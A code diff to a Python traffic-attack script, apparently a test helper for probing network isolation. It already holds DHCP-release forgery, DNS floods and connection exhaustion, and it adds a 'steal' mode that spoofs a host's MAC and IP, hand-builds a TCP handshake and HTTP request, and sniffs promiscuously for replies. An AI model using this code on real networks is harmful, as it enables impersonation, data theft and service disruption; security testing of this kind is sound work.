@@ -9,7 +9,10 @@ prints a JSON summary line. Kinds:
   pipelined batch it never reads (slow readers up to the descriptor limit);
 - `dhcp`: `--count` RELEASE/DECLINE frames on `--ifname`, chaddr alternating `--mac` and the `--forge` MACs;
 - `dns-udp`: queries for names the upstream never answers in time, as fast as the socket takes them;
-- `dns-tcp`: keeps `--conns` TCP connections to port 53 open, each asking one slow name.
+- `dns-tcp`: keeps `--conns` TCP connections to port 53 open, each asking one slow name;
+- `steal`: a hand-made TCP handshake and GET `--path` to `--host`, sent from (`--mac`, `--ip`) to the
+  Ethernet address `--dst-mac`, reading whatever comes back on `--ifname` whoever it is addressed to
+  (promiscuous): it prints what it received (`data`) and whether the handshake got an answer (`synack`).
 """
 
 from __future__ import annotations
@@ -19,6 +22,7 @@ import asyncio
 import errno
 import json
 import random
+import select
 import socket
 import struct
 import sys
@@ -191,8 +195,44 @@ async def dns_tcp(a: argparse.Namespace, stats: dict[str, int]) -> None:
     await asyncio.gather(*(_until(deadline, one) for _ in range(a.conns)))
 
 
+async def steal(a: argparse.Namespace, stats: dict[str, Any]) -> None:
+    from scapy.config import conf
+    from scapy.layers.inet import IP, TCP
+    from scapy.layers.l2 import Ether
+    from scapy.packet import Raw
+    from scapy.supersocket import SuperSocket
+
+    sock: SuperSocket = conf.L2socket(iface=a.ifname, promisc=True)
+    sport, seq = random.randrange(20000, 60000), random.randrange(1 << 31)
+    head = Ether(src=a.mac, dst=a.dst_mac) / IP(src=a.ip, dst=a.host)
+
+    def replies(timeout: float) -> list[Any]:
+        got, deadline = [], time.monotonic() + timeout
+        while (left := deadline - time.monotonic()) > 0:
+            if not select.select([sock], [], [], left)[0]:
+                break
+            pkt = sock.recv()
+            if pkt is not None and pkt.haslayer(TCP) and pkt[TCP].sport == a.port and pkt[TCP].dport == sport:
+                got.append(pkt)
+                if pkt[TCP].flags & 0x01:  # FIN: the server is done
+                    break
+        return got
+
+    sock.send(head / TCP(sport=sport, dport=a.port, flags="S", seq=seq))
+    synack = [p for p in replies(2) if p[TCP].flags & 0x12 == 0x12]
+    stats["synack"] = len(synack)
+    if synack:
+        ack = synack[0][TCP].seq + 1
+        request = f"GET {a.path} HTTP/1.1\r\nHost: {a.host}\r\nConnection: close\r\n\r\n".encode()
+        sock.send(head / TCP(sport=sport, dport=a.port, flags="A", seq=seq + 1, ack=ack))
+        sock.send(head / TCP(sport=sport, dport=a.port, flags="PA", seq=seq + 1, ack=ack) / Raw(request))
+        data = b"".join(bytes(p[Raw].load) for p in replies(3) if p.haslayer(Raw))
+        stats["data"] = data.decode(errors="replace")
+    sock.close()
+
+
 KINDS = {"metadata-pipeline": metadata_pipeline, "metadata-hold": metadata_hold, "dhcp": dhcp, "dns-udp": dns_udp,
-         "dns-tcp": dns_tcp}
+         "dns-tcp": dns_tcp, "steal": steal}
 
 
 def argv(kind: str, **options: Any) -> list[str]:
@@ -217,8 +257,9 @@ def main() -> None:
     p.add_argument("--mac", default="")
     p.add_argument("--ip", default="0.0.0.0")
     p.add_argument("--forge", action="append", default=[])
+    p.add_argument("--dst-mac", default="ff:ff:ff:ff:ff:ff")
     a = p.parse_args()
-    stats: dict[str, int] = {k: 0 for k in ("connections", "failed", "closed", "bytes", "frames", "queries", "answers")}
+    stats: dict[str, Any] = {k: 0 for k in ("connections", "failed", "closed", "bytes", "frames", "queries", "answers")}
     started = time.monotonic()
     asyncio.run(KINDS[a.kind](a, stats))
     print(json.dumps({"kind": a.kind, "seconds": round(time.monotonic() - started, 2),
